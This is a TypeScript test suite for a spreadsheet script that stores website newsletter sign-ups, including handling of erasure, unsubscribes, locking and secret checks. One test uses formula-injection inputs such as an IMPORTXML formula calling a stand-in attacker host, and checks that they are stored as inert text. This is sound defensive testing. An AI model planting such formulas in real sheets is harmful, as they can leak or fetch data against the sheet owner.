import { expect, test } from 'vitest';
import { type Cell, openScriptedSheet, type ScriptedSheet, SECRET } from './sheet-stand-in.ts';

const signUp = {
  id: 'a1',
  time: '2026-03-01T10:00:00.000Z',
  email: 'anna@example.org',
  name: '',
  role: 'Other',
  source: 'Footer',
};

/** @returns what the script answers to the site's server, which knows the secret */
function send(sheet: ScriptedSheet, message: object, secret: string | undefined = SECRET) {
  const contents = JSON.stringify(message);
  return JSON.parse(sheet.call({ postData: { contents, type: 'application/json' }, parameter: { secret } }));
}

function shown(row: Cell[] | undefined): (string | undefined)[] | undefined {
  return row?.map((cell) => ('shown' in cell ? cell.shown : undefined));
}

test('a sign-up is one row under headings, also when it is sent again', () => {
  const sheet = openScriptedSheet();
  for (let times = 0; times < 2; times += 1) expect(send(sheet, signUp)).toEqual({ ok: true });
  expect(sheet.rows.map(shown)).toEqual([
    ['Id', 'Time', 'Email', 'Name', 'Role', 'Source'],
    ['a1', '2026-03-01T10:00:00.000Z', 'anna@example.org', '', 'Other', 'Footer'],
  ]);
});

test.each(['=IMPORTXML("https://evil.example")', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', "'=1", ' =1', '＝1'])(
  'a cell that begins with %j is shown as it is and never runs',
  (source) => {
    const sheet = openScriptedSheet();
    send(sheet, { ...signUp, email: `=${signUp.email}`, source });
    expect(shown(sheet.rows[1])).toEqual(['a1', signUp.time, '=anna@example.org', '', 'Other', source]);
  },
);

test('an erasure removes the rows it names, and only those', () => {
  const sheet = openScriptedSheet();
  for (const id of ['a1', 'b2', 'c3', 'd4']) send(sheet, { ...signUp, id });
  expect(send(sheet, { id: 'e5', time: signUp.time, erase: ['b2', 'c3', 'gone'] })).toEqual({
    ok: true,
  });
  expect(sheet.rows.slice(1).map((row) => shown(row)?.[0])).toEqual(['a1', 'd4']);
});

test('an unsubscription gets a column of its own, also beside columns that the owner added', () => {
  const sheet = openScriptedSheet();
  for (const id of ['a1', 'b2']) send(sheet, { ...signUp, id });
  sheet.rows[0]?.push({ shown: 'My remarks' });
  const message = { id: 'e5', time: '2026-04-01T10:00:00.000Z', unsubscribe: ['b2', 'gone'] };
  for (let times = 0; times < 2; times += 1) {
    expect(send(sheet, message)).toEqual({ ok: true });
  }
  expect(shown(sheet.rows[0])?.slice(5)).toEqual(['Source', 'My remarks', 'Unsubscribed']);
  expect(shown(sheet.rows[1])?.[7]).toBeUndefined();
  expect(shown(sheet.rows[2])?.[7]).toBe('2026-04-01T10:00:00.000Z');
});

test('a row that arrives after its person unsubscribed says so, also when it is sent again', () => {
  const sheet = openScriptedSheet();
  send(sheet, signUp);
  for (const id of ['a1', 'b2']) send(sheet, { ...signUp, id, unsubscribed: '2026-04-01' });
  expect(sheet.rows.slice(1).map((row) => shown(row)?.slice(5))).toEqual([
    ['Footer', '2026-04-01'],
    ['Footer', '2026-04-01'],
  ]);
});

test('a new field gets a column at the right, and rows follow the headings', () => {
  const sheet = openScriptedSheet();
  send(sheet, signUp);
  send(sheet, { ...signUp, id: 'b2', company: 'Acme' });
  expect(sheet.rows.map((row) => shown(row)?.slice(5))).toEqual([
    ['Source', 'Company'],
    ['Footer'],
    ['Footer', 'Acme'],
  ]);
});

test('while another run works on the sheet it says that it is busy, and writes nothing', () => {
  const sheet = openScriptedSheet();
  sheet.isLocked = true;
  expect(send(sheet, signUp)).toEqual({ ok: false, error: 'busy' });
  expect(sheet.rows).toEqual([]);
});

test('the sheet is changed only under the lock', () => {
  const sheet = openScriptedSheet();
  send(sheet, signUp);
  send(sheet, { id: 'e5', time: signUp.time, erase: ['a1'] });
  expect(sheet.unlockedCalls).toEqual([]);
});

test.each(['', 'not JSON', '{}', '{"email":"nobody"}', '{"email":["anna@example.org"]}', 'null'])(
  'a body like %j is never answered with ok',
  (body) => {
    const sheet = openScriptedSheet();
    expect(JSON.parse(sheet.post(body))).toMatchObject({ ok: false });
    expect(sheet.rows.length).toBeLessThan(2);
  },
);

test('a tab that exists and is empty gets headings and rows', () => {
  const sheet = openScriptedSheet({ hasEmptyTab: true });
  expect(send(sheet, signUp)).toEqual({ ok: true });
  expect(sheet.rows.map((row) => shown(row)?.[0])).toEqual(['Id', 'a1']);
});

test('columns are found by their headings, in any order and letter case, below the owner’s own lines', () => {
  const sheet = openScriptedSheet({ hasEmptyTab: true });
  const line = (...texts: string[]): Cell[] => texts.map((text) => ({ shown: text }));
  sheet.rows.push(line('My newsletter'), line('Notes', ' EMAIL ', 'id', 'Role'));
  for (let times = 0; times < 2; times += 1) expect(send(sheet, signUp)).toEqual({ ok: true });
  expect(sheet.rows.slice(1).map(shown)).toEqual([
    ['Notes', ' EMAIL ', 'id', 'Role', 'Time', 'Name', 'Source'],
    ['', 'anna@example.org', 'a1', 'Other', signUp.time, '', 'Footer'],
  ]);
});

test.each([{ erase: ['a1', 'Footer'] }, { unsubscribe: ['a1'] }, { ...signUp, unsubscribed: 'now' }])(
  'whoever does not know the secret changes no row: %j',
  (message) => {
    for (const [ours, theirs] of [
      [SECRET, ''],
      [SECRET, 'a guess'],
      ['', ''],
    ] as const) {
      const sheet = openScriptedSheet({ secret: ours });
      send(sheet, signUp);
      const before = structuredClone(sheet.rows);
      expect(send(sheet, { id: 'e5', time: signUp.time, ...message }, theirs)).toMatchObject({ ok: false });
      expect(sheet.rows).toEqual(before);
    }
  },
);

test('rows are erased by the column of ids alone, never the headings', () => {
  const sheet = openScriptedSheet();
  send(sheet, signUp);
  expect(send(sheet, { id: 'e5', time: signUp.time, erase: ['Footer', '', 'Other', 'Id'] })).toEqual({ ok: true });
  expect(sheet.rows).toHaveLength(2);
});

test('rows go below the last sign-up although tick boxes go on below it', () => {
  const sheet = openScriptedSheet();
  send(sheet, signUp);
  sheet.rows[0]!.push({ shown: 'Called' });
  for (let row = 1; row < 30; row += 1)
    (sheet.rows[row] ??= Array.from({ length: 6 }, () => ({ shown: '' })))[6] = { tick: false };
  send(sheet, { ...signUp, id: 'b2' });
  expect(shown(sheet.rows[2])?.[0]).toBe('b2');
  expect(sheet.rows).toHaveLength(30);
});

test.each(['05-12', '0044', '1e5', '1/2', 'TRUE', '10%', '£5', '12:30'])('%s stays the text that was sent', (role) => {
  const sheet = openScriptedSheet();
  send(sheet, { ...signUp, role });
  expect(shown(sheet.rows[1])?.[4]).toBe(role);
});

test('a sheet without an empty row or column can get new columns and lose its last row', () => {
  const sheet = openScriptedSheet();
  send(sheet, signUp);
  sheet.size = { rows: 2, columns: 6 };
  expect(send(sheet, { id: 'e5', time: signUp.time, unsubscribe: ['a1'] })).toEqual({ ok: true });
  expect(send(sheet, { id: 'e6', time: signUp.time, erase: ['a1'] })).toEqual({ ok: true });
  expect(sheet.rows).toHaveLength(1);
});

test('a sheet with the most columns still takes sign-ups, without fields that have no column', () => {
  const sheet = openScriptedSheet();
  send(sheet, signUp);
  sheet.size.columns = 100;
  while (sheet.rows[0]!.length < 100) sheet.rows[0]!.push({ shown: 'Mine' });
  expect(send(sheet, { ...signUp, id: 'b2', company: 'Acme' })).toEqual({ ok: true });
  expect([sheet.rows[0]?.length, shown(sheet.rows[2])?.[2]]).toEqual([100, 'anna@example.org']);
});

test('a form that a browser posts without script becomes a row, and the answer says thanks', () => {
  const sheet = openScriptedSheet();
  const form = { source: 'Footer', email: '\u200Banna@example.org\u00A0', role: 'Other', website: '', consent: '9f' };
  expect(sheet.postForm(form)).toContain('Thanks, you are on the list.');
  expect(shown(sheet.rows[0])).toEqual(['Id', 'Time', 'Email', 'Name', 'Role', 'Source', 'Consent']);
  expect(shown(sheet.rows[1])?.slice(2)).toEqual(['anna@example.org', '', 'Other', 'Footer', '9f']);
});

test.each([
  ['without an address', { email: 'anna', consent: '9f' }, 'enter a valid email address'],
  ['without consent', { email: 'anna@example.org' }, 'tick the box'],
  ['of a robot', { email: 'anna@example.org', consent: '9f', website: 'x' }, 'Thanks'],
])('a form %s is answered with a page, and is no row', (_, fields, words) => {
  const sheet = openScriptedSheet();
  expect(sheet.postForm({ source: 'Footer', ...fields })).toContain(words);
  expect(sheet.rows.length).toBeLessThan(2);
});

test('the answer to a form says no thanks if the sheet is busy', () => {
  const sheet = openScriptedSheet();
  sheet.isLocked = true;
  expect(sheet.postForm({ email: 'anna@example.org', consent: '9f' })).toContain('Please go back and try again.');
});

test.each([undefined, {}, { postData: null, parameter: {} }])('the event %j is refused', (event) => {
  expect(JSON.parse(openScriptedSheet().call(event))).toMatchObject({ ok: false });
});

test("the specification's own payload, posted by a browser, gets an id and a time", () => {
  const sheet = openScriptedSheet();
  send(sheet, { email: 'anna@example.org', name: '', role: '', source: 'Founder' });
  const [id, time] = shown(sheet.rows[1]) ?? [];
  expect(id).toMatch(/^[\w-]{36}$/);
  expect(Date.parse(time ?? '')).toBeGreaterThan(0);
});
